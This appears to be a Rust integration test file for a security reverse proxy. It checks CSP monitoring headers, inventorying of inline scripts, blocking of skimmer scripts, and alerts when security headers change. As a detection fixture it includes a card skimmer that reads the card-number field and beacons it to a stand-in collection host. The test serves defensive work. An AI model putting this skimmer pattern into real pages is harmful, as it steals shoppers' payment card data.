//! The reverse proxy against a real loopback upstream: headers added on the sample of HTML
//! responses only (next to the site's own CSP), bodies byte-identical, inline scripts
//! inventoried from the streamed page, upstream failures answered 502.

mod common;

use axum::http::header;
use axum::response::IntoResponse;
use common::*;

const PAGE: &str = r#"<!doctype html><html><head><title>Checkout</title>
<script>window.dataLayer = window.dataLayer || []; function gtag(){dataLayer.push(arguments);}</script>
<script type="application/ld+json">{"@type": "Product"}</script>
<script src="https://cdn.example/app.js"></script>
</head><body><form id="pay"><input name="cc_number"></form>
<script>document.getElementById("pay").addEventListener("submit", function () { /* site code */ });</script>
</body></html>"#;

/// Written for this test: a page with a blocklisted script and an inline skimmer (the BA
/// pattern, on a reserved domain) next to the site's own code.
const EVIL_TAG: &str = r#"<script src="https://cdn.evil-list.example/skim.js"></script>"#;
const SKIM_TAG: &str = "<script>document.addEventListener('submit', function () { var c = document.querySelector('input[name=cc_number]').value; navigator.sendBeacon('https://inline-collect.example.net/c', c); });</script>";
const BLOCK_PAGE: &str = concat!(
    "<!doctype html><html><head>",
    r#"<script src="https://cdn.evil-list.example/skim.js"></script>"#,
    r#"<script src="/static/app.js"></script><script>window.siteCode = 1;</script>"#,
    "</head><body><form><input name=cc_number></form>",
    "<script>document.addEventListener('submit', function () { var c = document.querySelector('input[name=cc_number]').value; navigator.sendBeacon('https://inline-collect.example.net/c', c); });</script>",
    "</body></html>"
);

/// Whether `/account` has lost its security headers (the tamper test flips it).
static WEAKENED: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);
/// The same for `/profile` (the restart test).
static PROFILE_WEAKENED: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);

fn big_body() -> Vec<u8> {
    (0..200_000u32).flat_map(|i| i.to_le_bytes()).collect()
}

async fn upstream() -> String {
    let app = axum::Router::new()
        .route(
            "/checkout",
            axum::routing::get(|| async {
                (
                    [
                        (header::CONTENT_TYPE, "text/html; charset=utf-8"),
                        (header::CONTENT_SECURITY_POLICY, "frame-ancestors 'self'"),
                    ],
                    PAGE,
                )
            }),
        )
        .route(
            "/account",
            axum::routing::get(|| async {
                let mut r =
                    ([(header::CONTENT_TYPE, "text/html")], "<p>account</p>").into_response();
                if !WEAKENED.load(std::sync::atomic::Ordering::SeqCst) {
                    r.headers_mut().insert(
                        header::STRICT_TRANSPORT_SECURITY,
                        "max-age=31536000".parse().unwrap(),
                    );
                    r.headers_mut().insert(
                        header::CONTENT_SECURITY_POLICY,
                        "script-src 'self'".parse().unwrap(),
                    );
                }
                r
            }),
        )
        .route(
            "/profile",
            axum::routing::get(|| async {
                let csp = if PROFILE_WEAKENED.load(std::sync::atomic::Ordering::SeqCst) {
                    "script-src *"
                } else {
                    "script-src 'self'"
                };
                (
                    [
                        (header::CONTENT_TYPE, "text/html"),
                        (header::CONTENT_SECURITY_POLICY, csp),
                    ],
                    "<p>profile</p>",
                )
            }),
        )
        .route(
            "/shop",
            axum::routing::get(|| async { ([(header::CONTENT_TYPE, "text/html")], BLOCK_PAGE) }),
        )
        .route(
            "/app.js",
            axum::routing::get(|| async {
                (
                    [(header::CONTENT_TYPE, "text/javascript")],
                    "console.log(1);",
                )
            }),
        )
        .route(
            "/blob",
            axum::routing::get(|| async {
                // Streamed in chunks (no content-length): the proxy must pass it through as is.
                let chunks: Vec<Result<Vec<u8>, std::io::Error>> =
                    big_body().chunks(7919).map(|c| Ok(c.to_vec())).collect();
                axum::body::Body::from_stream(stream_of(chunks)).into_response()
            }),
        )
        .route(
            "/coded/{coding}",
            axum::routing::get(
                |axum::extract::Path(coding): axum::extract::Path<String>,
                 headers: axum::http::HeaderMap| async move {
                    let seen = headers
                        .get(header::ACCEPT_ENCODING)
                        .and_then(|v| v.to_str().ok())
                        .unwrap_or("")
                        .to_string();
                    (
                        [
                            (header::CONTENT_TYPE, "text/html".to_string()),
                            (header::CONTENT_ENCODING, coding.clone()),
                            (header::ETAG, "\"v1\"".to_string()),
                            (
                                header::HeaderName::from_static("x-seen-accept-encoding"),
                                seen,
                            ),
                        ],
                        encoded(&coding),
                    )
                },
            ),
        )
        .route(
            "/echo",
            axum::routing::post(|headers: axum::http::HeaderMap, body: String| async move {
                let host = headers
                    .get("host")
                    .and_then(|h| h.to_str().ok())
                    .unwrap_or("")
                    .to_string();
                let xff = headers
                    .get("x-forwarded-for")
                    .and_then(|h| h.to_str().ok())
                    .unwrap_or("")
                    .to_string();
                format!("{host}|{xff}|{body}")
            }),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

/// Brotli needs an encoder this project does not carry: a committed page, compressed by
/// Node.js (see src/proxy/testdata/README.md).
const BR_PAGE: &[u8] = include_bytes!("../src/proxy/testdata/page.html.br");
const BR_PLAIN: &str = include_str!("../src/proxy/testdata/page.html");

/// The body `/coded/{coding}` serves: `BLOCK_PAGE` gzip- or zlib-compressed, or `BR_PAGE`.
fn encoded(coding: &str) -> Vec<u8> {
    use std::io::Write;
    match coding {
        "gzip" => {
            let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(BLOCK_PAGE.as_bytes()).unwrap();
            e.finish().unwrap()
        }
        "deflate" => {
            let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
            e.write_all(BLOCK_PAGE.as_bytes()).unwrap();
            e.finish().unwrap()
        }
        "br" => BR_PAGE.to_vec(),
        "zstd" => include_bytes!("../src/proxy/testdata/page.html.zst").to_vec(),
        other => panic!("no test body for {other}"),
    }
}

fn gunzip(body: &[u8]) -> String {
    use std::io::Read;
    let mut out = String::new();
    flate2::read::GzDecoder::new(body)
        .read_to_string(&mut out)
        .unwrap();
    out
}

async fn proxied(site_extra: &str) -> (TestServer, String) {
    let up = upstream().await;
    let t = start(
        site_extra,
        &format!("[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\""),
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.expect("proxy configured"));
    (t, proxy)
}

#[tokio::test]
async fn html_gets_the_monitoring_headers_next_to_its_own_and_bodies_pass_unchanged() {
    let (t, proxy) = proxied("").await;
    let r = t
        .http
        .get(format!("{proxy}/checkout"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    let h = r.headers().clone();
    assert_eq!(
        h[header::CONTENT_SECURITY_POLICY],
        "frame-ancestors 'self'",
        "the site's own CSP is untouched"
    );
    let ours = h["content-security-policy-report-only"].to_str().unwrap();
    assert!(ours.contains(&format!("/report/{KEY}")), "{ours}");
    assert_eq!(r.text().await.unwrap(), PAGE);

    let js = t.http.get(format!("{proxy}/app.js")).send().await.unwrap();
    assert!(
        js.headers()
            .get("content-security-policy-report-only")
            .is_none()
    );
    assert_eq!(js.text().await.unwrap(), "console.log(1);");

    let blob = t.http.get(format!("{proxy}/blob")).send().await.unwrap();
    assert_eq!(blob.bytes().await.unwrap().as_ref(), big_body().as_slice());

    let echo = t
        .http
        .post(format!("{proxy}/echo"))
        .header("host", "shop.example")
        .body("payload")
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        echo, "shop.example|127.0.0.1|payload",
        "Host preserved, X-Forwarded-For added"
    );
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn only_the_configured_share_of_html_responses_is_monitored() {
    let (t, proxy) = proxied("sample_rate = 0.5").await;
    let mut monitored = 0;
    for _ in 0..10 {
        let r = t
            .http
            .get(format!("{proxy}/checkout"))
            .send()
            .await
            .unwrap();
        monitored += usize::from(
            r.headers()
                .contains_key("content-security-policy-report-only"),
        );
        assert_eq!(r.text().await.unwrap(), PAGE);
    }
    assert_eq!(monitored, 5);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn inline_scripts_of_streamed_pages_are_inventoried() {
    let (t, proxy) = proxied("").await;
    let r = t
        .http
        .get(format!("{proxy}/checkout?session=secret"))
        .header("host", "shop.example")
        .send()
        .await
        .unwrap();
    assert_eq!(r.text().await.unwrap(), PAGE);
    let scripts = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            v["scripts"].as_array().unwrap().len() >= 2
        })
        .await;
    let list = scripts["scripts"].as_array().unwrap();
    assert_eq!(
        list.len(),
        2,
        "two JavaScript inline scripts; JSON-LD and src= scripts are not inline code: {scripts}"
    );
    for s in list {
        assert!(
            s["url"].as_str().unwrap().starts_with("inline:sha256-"),
            "{s}"
        );
        assert_eq!(
            s["first_page"], "https://shop.example/checkout",
            "no query string: {s}"
        );
    }
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_dead_upstream_is_a_502() {
    let t = start(
        "",
        "[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"http://127.0.0.1:9\"",
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    let r = t.http.get(format!("{proxy}/")).send().await.unwrap();
    assert_eq!(r.status(), 502);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn page_policies_are_added_per_path_in_their_mode() {
    let up = upstream().await;
    let t = start(
        "",
        &format!(
            "[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"\n\
             [[proxy.policies]]\npage = \"/checkout*\"\nmode = \"enforce\"\npolicy = \"script-src 'self' https://cdn.example; object-src 'none'; base-uri 'self'\"\n\
             [[proxy.policies]]\npage = \"*\"\npolicy = \"script-src 'self'\""
        ),
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    let r = t
        .http
        .get(format!("{proxy}/checkout"))
        .send()
        .await
        .unwrap();
    let enforced: Vec<&str> = r
        .headers()
        .get_all(header::CONTENT_SECURITY_POLICY)
        .iter()
        .map(|v| v.to_str().unwrap())
        .collect();
    assert_eq!(
        enforced.len(),
        2,
        "the site's own policy and ours: {enforced:?}"
    );
    assert_eq!(enforced[0], "frame-ancestors 'self'");
    assert!(
        enforced[1].starts_with("script-src 'self' https://cdn.example; object-src 'none'; base-uri 'self'; report-uri http://"),
        "{}",
        enforced[1]
    );
    assert!(enforced[1].ends_with(&format!("/report/{KEY}")));
    // Elsewhere the catch-all policy, report-only, next to the monitoring header.
    let r = t.http.get(format!("{proxy}/blob")).send().await.unwrap();
    assert!(r.headers().get(header::CONTENT_SECURITY_POLICY).is_none());
    let r = t.http.get(format!("{proxy}/app.js")).send().await.unwrap();
    assert!(
        r.headers()
            .get("content-security-policy-report-only")
            .is_none(),
        "not HTML"
    );
    t.server.shutdown().await.unwrap();
}

/// A proxy in blocking mode with `listed` as its blocklist (`skimmers.txt`, magecart); the
/// directory holding the list is returned to live as long as the test.
async fn blocking(listed: &str) -> (TestServer, String, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("skimmers.txt");
    std::fs::write(&list, listed).unwrap();
    let up = upstream().await;
    let t = start(
        "",
        &format!(
            "[intel]\nblocklists = [{{ path = \"{}\", category = \"magecart\" }}]\n\
             [proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"\nblock = true",
            list.display()
        ),
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    (t, proxy, dir)
}

#[tokio::test]
async fn blocking_mode_removes_exactly_the_flagged_scripts_and_records_it() {
    let (t, proxy, _dir) = blocking("cdn.evil-list.example\n").await;
    // The blocklisted script goes at once; the inline skimmer is scored while this page streams.
    let first = t
        .http
        .get(format!("{proxy}/shop"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(first, BLOCK_PAGE.replace(EVIL_TAG, ""));
    let bad = t
        .eventually("/api/v1/alerts?kind=malicious_script", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    assert_eq!(bad["alerts"][0]["details"]["scored"], "inline");
    // From then on it is removed too: its element stays, empty; the site's own code is untouched.
    let second = t
        .http
        .get(format!("{proxy}/shop"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(
        second,
        BLOCK_PAGE
            .replace(EVIL_TAG, "")
            .replace(SKIM_TAG, "<script></script>")
    );
    let blocked = t
        .eventually("/api/v1/alerts?kind=script_blocked", |v| {
            v["alerts"].as_array().unwrap().len() >= 2
        })
        .await;
    let reasons: Vec<&str> = blocked["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["details"]["reason"].as_str().unwrap())
        .collect();
    assert!(
        reasons
            .iter()
            .any(|r| r.contains("blocklist skimmers.txt (magecart)")),
        "{reasons:?}"
    );
    assert!(
        reasons.iter().any(|r| r.contains("scored malicious")),
        "{reasons:?}"
    );
    let metrics = t.metrics().await;
    assert!(metric(&metrics, "rampart_proxy_scripts_blocked_total") >= 2.0);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn a_page_losing_its_security_headers_alerts() {
    let (t, proxy) = proxied("").await;
    for _ in 0..2 {
        let r = t.http.get(format!("{proxy}/account")).send().await.unwrap();
        assert_eq!(r.status(), 200);
    }
    WEAKENED.store(true, std::sync::atomic::Ordering::SeqCst);
    t.http.get(format!("{proxy}/account")).send().await.unwrap();
    let v = t
        .eventually("/api/v1/alerts?kind=security_headers_changed", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let alerts = v["alerts"].as_array().unwrap();
    assert_eq!(alerts.len(), 1, "the baseline itself does not alert: {v}");
    let a = &alerts[0];
    assert_eq!(a["severity"], "critical");
    assert_eq!(a["subject"], "/account");
    let changed: Vec<&str> = a["details"]["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["header"].as_str().unwrap())
        .collect();
    assert_eq!(
        changed,
        ["content-security-policy", "strict-transport-security"]
    );
    assert_eq!(a["details"]["changes"][0]["after"], serde_json::Value::Null);
    // The page's current headers (stored beside the alert): neither of the two any more.
    let account = |v: &serde_json::Value| {
        v["pages"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["page"] == "/account")
            .cloned()
    };
    let v = t
        .eventually("/api/v1/sites/shop/security-headers", |v| {
            account(v).is_some_and(|a| a["headers"].get("content-security-policy").is_none())
        })
        .await;
    let a = account(&v).unwrap();
    assert_eq!(a["watched"], false);
    assert!(a["headers"].get("strict-transport-security").is_none());
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn compressed_pages_pass_unchanged_and_their_inline_scripts_are_inventoried() {
    let (t, proxy) = proxied("").await;
    let r = t
        .http
        .get(format!("{proxy}/coded/gzip"))
        .header("accept-encoding", "gzip, br, zstd")
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["content-encoding"], "gzip");
    assert_eq!(
        r.headers()["etag"],
        "\"v1\"",
        "not rewritten: the ETag stands"
    );
    assert_eq!(
        r.headers()["x-seen-accept-encoding"],
        "gzip, br, zstd",
        "without blocking the visitor's codings reach the origin unchanged"
    );
    assert_eq!(r.bytes().await.unwrap(), encoded("gzip"), "byte-identical");
    // The scan decoded its copy: the page's two inline scripts are in the inventory.
    let scripts = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            v["scripts"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|s| s["url"].as_str().unwrap().starts_with("inline:"))
                .count()
                >= 2
        })
        .await;
    assert!(scripts.to_string().contains("inline:sha256-"), "{scripts}");
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn blocking_mode_rewrites_gzip_deflate_and_brotli_pages() {
    // cdn.shop.example is the external script of the brotli page.
    let (t, proxy, _dir) = blocking("cdn.evil-list.example\ncdn.shop.example\n").await;
    let get = |path: &str, accept_encoding: &str| {
        t.http
            .get(format!("{proxy}{path}"))
            .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
            .header("accept-encoding", accept_encoding)
            .send()
    };
    let without_evil = BLOCK_PAGE.replace(EVIL_TAG, "");

    // gzip in, gzip out (compressed again after the rewrite); zstd never reaches the origin.
    let r = get("/coded/gzip", "gzip, deflate, br, zstd").await.unwrap();
    assert_eq!(r.headers()["x-seen-accept-encoding"], "gzip, deflate, br");
    assert_eq!(r.headers()["content-encoding"], "gzip");
    assert_eq!(
        r.headers()["etag"],
        "W/\"v1\"",
        "a rewritten page has a weak ETag"
    );
    assert!(r.headers().get("content-length").is_none());
    assert_eq!(gunzip(&r.bytes().await.unwrap()), without_evil);

    // A HEAD has no page to rewrite: answered as the origin answers it.
    let r = t
        .http
        .head(format!("{proxy}/coded/gzip"))
        .header("accept", "text/html")
        .header("accept-encoding", "gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["etag"], "\"v1\"");

    // The gzip page's inline skimmer was scored as that page streamed: once the verdict is in,
    // later pages lose it too (waiting for it makes the next page's expected text certain).
    t.eventually("/api/v1/alerts?kind=malicious_script", |v| {
        !v["alerts"].as_array().unwrap().is_empty()
    })
    .await;
    let without_either = without_evil.replace(SKIM_TAG, "<script></script>");

    // zlib-wrapped deflate in, gzip out.
    let r = get("/coded/deflate", "gzip, deflate").await.unwrap();
    assert_eq!(r.headers()["content-encoding"], "gzip");
    assert_eq!(gunzip(&r.bytes().await.unwrap()), without_either);

    // brotli in; a visitor that takes only brotli gets the rewritten page uncompressed.
    let r = get("/coded/br", "br").await.unwrap();
    assert!(r.headers().get("content-encoding").is_none());
    let page = r.text().await.unwrap();
    assert_eq!(
        page,
        BR_PLAIN.replace(
            r#"<script src="https://cdn.shop.example/app.js"></script>"#,
            ""
        )
    );

    // The listed script of the gzip page, the inline skimmer of the deflate page, the listed
    // script of the brotli page.
    let blocked = t
        .eventually("/api/v1/alerts?kind=script_blocked", |v| {
            v["alerts"].as_array().unwrap().len() >= 3
        })
        .await;
    let subjects = blocked.to_string();
    assert!(
        subjects.contains("https://cdn.evil-list.example/skim.js"),
        "{subjects}"
    );
    assert!(
        subjects.contains("https://cdn.shop.example/app.js"),
        "{subjects}"
    );
    t.server.shutdown().await.unwrap();
}

/// Serves the test upstream over TLS with a self-signed certificate for `localhost`; returns
/// its `https://` URL and the certificate's PEM.
async fn tls_upstream() -> (String, String) {
    let plain = upstream().await;
    let cert = rcgen::generate_simple_self_signed(vec!["localhost".to_string()]).unwrap();
    let key = rustls::pki_types::PrivateKeyDer::Pkcs8(cert.signing_key.serialize_der().into());
    let config = rustls::ServerConfig::builder_with_provider(std::sync::Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(vec![cert.cert.der().clone()], key)
    .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(std::sync::Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let backend = plain.trim_start_matches("http://").to_string();
    tokio::spawn(async move {
        while let Ok((tcp, _)) = listener.accept().await {
            let (acceptor, backend) = (acceptor.clone(), backend.clone());
            tokio::spawn(async move {
                if let (Ok(mut tls), Ok(mut origin)) = (
                    acceptor.accept(tcp).await,
                    tokio::net::TcpStream::connect(&backend).await,
                ) {
                    let _ = tokio::io::copy_bidirectional(&mut tls, &mut origin).await;
                }
            });
        }
    });
    (format!("https://localhost:{port}"), cert.cert.pem())
}

#[tokio::test]
async fn an_https_upstream_is_verified_and_proxied() {
    let (up, pem) = tls_upstream().await;
    let dir = tempfile::tempdir().unwrap();
    let ca = dir.path().join("origin.pem");
    std::fs::write(&ca, pem).unwrap();
    let t = start(
        "",
        &format!(
            "[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"\nupstream_ca = \"{}\"",
            ca.display()
        ),
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    let r = t
        .http
        .get(format!("{proxy}/checkout"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    assert!(
        r.headers()
            .get("content-security-policy-report-only")
            .is_some()
    );
    assert_eq!(r.text().await.unwrap(), PAGE);
    t.server.shutdown().await.unwrap();

    // Without the certificate trusted, the origin is refused: 502, nothing served.
    let t = start(
        "",
        &format!("[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\""),
    )
    .await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    let r = t
        .http
        .get(format!("{proxy}/checkout"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 502);
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn security_header_baselines_survive_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let database = database_in(dir.path());
    let up = upstream().await;
    let config = format!("[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"");
    let t = start_on(tempfile::tempdir().unwrap(), &database, "", &config).await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    t.http.get(format!("{proxy}/profile")).send().await.unwrap();
    // The first sight is written to the store (off the request path).
    let store = rampart_store::open(&database).await.unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
    while store.header_baselines("shop", 10).await.unwrap().is_empty() {
        assert!(
            std::time::Instant::now() < deadline,
            "baseline never stored"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    t.server.shutdown().await.unwrap();

    // The origin's CSP is weakened while the proxy is down; the first page after the restart
    // is compared with the stored baseline, not taken as a new one.
    PROFILE_WEAKENED.store(true, std::sync::atomic::Ordering::SeqCst);
    let t = start_on(tempfile::tempdir().unwrap(), &database, "", &config).await;
    let proxy = format!("http://{}", t.server.proxy_addr.unwrap());
    t.http.get(format!("{proxy}/profile")).send().await.unwrap();
    let v = t
        .eventually("/api/v1/alerts?kind=security_headers_changed", |v| {
            !v["alerts"].as_array().unwrap().is_empty()
        })
        .await;
    let change = &v["alerts"][0]["details"]["changes"][0];
    assert_eq!(change["header"], "content-security-policy");
    assert_eq!(change["before"], "script-src 'self'");
    assert_eq!(change["after"], "script-src *");
    t.server.shutdown().await.unwrap();
}

#[tokio::test]
async fn zstd_pages_are_scanned_too() {
    let (t, proxy) = proxied("").await;
    let r = t
        .http
        .get(format!("{proxy}/coded/zstd"))
        .header("accept-encoding", "zstd, br, gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(r.headers()["content-encoding"], "zstd");
    assert_eq!(r.bytes().await.unwrap(), encoded("zstd"), "byte-identical");
    // The page's one inline script, read from the decoded copy.
    let scripts = t
        .eventually("/api/v1/sites/shop/scripts", |v| {
            !v["scripts"].as_array().unwrap().is_empty()
        })
        .await;
    let list = scripts["scripts"].as_array().unwrap();
    assert_eq!(list.len(), 1, "{scripts}");
    assert!(
        list[0]["sample"]
            .as_str()
            .unwrap()
            .starts_with("window.checkoutConfig")
    );
    t.server.shutdown().await.unwrap();
}

/// The HTTP version is hop-by-hop (RFC 9110 §6.2): an origin that answers in HTTP/1.0 (and
/// closes to end the body) must not turn the visitor's keep-alive HTTP/1.1 connection into a
/// 1.0 one; the proxy answers in its own version, with the body intact, and keeps the
/// connection for the next request.
#[tokio::test]
async fn an_http_1_0_origin_is_answered_in_http_1_1() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        loop {
            let Ok((mut tcp, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut request = vec![0u8; 4096];
                let _ = tcp.read(&mut request).await;
                let _ = tcp
                    .write_all(
                        b"HTTP/1.0 200 OK\r\nContent-Type: text/html\r\n\r\n\
                          <html><body>old server</body></html>",
                    )
                    .await;
            });
        }
    });
    let t = start(
        "",
        &format!("[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\""),
    )
    .await;
    let proxy = t.server.proxy_addr.unwrap();
    let mut tcp = tokio::net::TcpStream::connect(proxy).await.unwrap();
    for _ in 0..2 {
        tcp.write_all(b"GET / HTTP/1.1\r\nHost: shop.example\r\n\r\n")
            .await
            .unwrap();
        let mut response = Vec::new();
        let mut buf = [0u8; 4096];
        // Read until the whole body is in (chunked or with a length: the connection stays).
        while !String::from_utf8_lossy(&response).contains("</html>") {
            let n = tokio::time::timeout(std::time::Duration::from_secs(5), tcp.read(&mut buf))
                .await
                .expect("the proxy answers")
                .unwrap();
            assert!(
                n > 0,
                "closed early: {}",
                String::from_utf8_lossy(&response)
            );
            response.extend_from_slice(&buf[..n]);
        }
        let text = String::from_utf8_lossy(&response).to_string();
        assert!(text.starts_with("HTTP/1.1 200"), "{text}");
        assert!(
            text.contains("<html><body>old server</body></html>"),
            "{text}"
        );
        if text.contains("transfer-encoding: chunked") {
            // The last chunk may still be on its way.
            while !String::from_utf8_lossy(&response).ends_with("0\r\n\r\n") {
                let n = tcp.read(&mut buf).await.unwrap();
                assert!(n > 0);
                response.extend_from_slice(&buf[..n]);
            }
        }
    }
    t.server.shutdown().await.unwrap();
}

/// WebSockets pass through: the upgrade is forwarded, the origin's 101 comes back, and then
/// messages flow both ways over the joined connections — as long as bytes keep moving: a tunnel
/// idle past `upgrade_idle_timeout` is closed.
#[tokio::test]
async fn websockets_pass_through_the_proxy_until_idle() {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let up = format!("http://{}", listener.local_addr().unwrap());
    // An echo server that prefixes what it sends back.
    tokio::spawn(async move {
        let (tcp, _) = listener.accept().await.unwrap();
        let mut ws = tokio_tungstenite::accept_async(tcp).await.unwrap();
        while let Some(Ok(Message::Text(t))) = ws.next().await {
            ws.send(Message::Text(format!("echo: {t}").into()))
                .await
                .unwrap();
        }
    });
    let t = start(
        "",
        &format!(
            "[proxy]\nlisten = \"127.0.0.1:0\"\nupstream = \"{up}\"\nupgrade_idle_timeout = \"400ms\""
        ),
    )
    .await;
    let proxy = t.server.proxy_addr.unwrap();
    let tcp = tokio::net::TcpStream::connect(proxy).await.unwrap();
    let (mut ws, response) = tokio_tungstenite::client_async(format!("ws://{proxy}/live"), tcp)
        .await
        .expect("the handshake passes through the proxy");
    assert_eq!(response.status(), 101);
    // Ten messages 150 ms apart: longer than the idle limit in all, never idle that long.
    for n in 0..10 {
        tokio::time::sleep(std::time::Duration::from_millis(150)).await;
        ws.send(Message::Text(format!("hello {n}").into()))
            .await
            .unwrap();
        let reply = tokio::time::timeout(std::time::Duration::from_secs(5), ws.next())
            .await
            .expect("the echo comes back")
            .unwrap()
            .unwrap();
        assert_eq!(reply, Message::Text(format!("echo: hello {n}").into()));
    }
    // Then silence: the proxy closes the tunnel, and the visitor sees the stream end.
    let ended = tokio::time::timeout(std::time::Duration::from_secs(5), ws.next())
        .await
        .expect("an idle tunnel is closed");
    assert!(
        !matches!(ended, Some(Ok(Message::Text(_)))),
        "no message was sent: {ended:?}"
    );
    // Counted as the tunnel task ends, which may be just after the visitor saw the close.
    let idle_closed = "rampart_proxy_responses_total{outcome=\"upgrade_idle_closed\"}";
    let mut closed = t.metrics().await;
    for _ in 0..100 {
        if metric(&closed, idle_closed) > 0.0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        closed = t.metrics().await;
    }
    assert_eq!(metric(&closed, idle_closed), 1.0, "{closed}");
    t.server.shutdown().await.unwrap();
}
